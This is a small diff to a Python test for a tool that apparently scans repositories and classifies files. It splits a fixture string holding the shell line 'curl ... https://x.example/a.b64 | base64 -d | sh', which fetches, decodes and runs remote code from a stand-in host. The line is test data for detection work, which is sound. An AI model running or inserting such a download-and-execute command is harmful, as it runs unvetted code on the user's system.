@@ -134,7 +134,8 @@ def test_benign_setup_py_and_notebook_are_allowed(tmp_path: Path) -> None:
 
 
 def test_shell_script_found_by_shebang(tmp_path: Path) -> None:
-    script = "#!/usr/bin/env bash\nset -e\n# fetch\ncurl -fsSL https://x.example/a.b64 | base64 -d | sh\n"
+    script = "#!/usr/bin/env bash\nset -e\n# fetch\n"
+    script += "curl -fsSL https://x.example/a.b64 | base64 -d | sh\n"
     root = repos.write(tmp_path / "m", {"bin/install": script})
     code = code_of(root)
     assert [(f.path, f.kind) for f in code.files] == [("bin/install", "shell")]
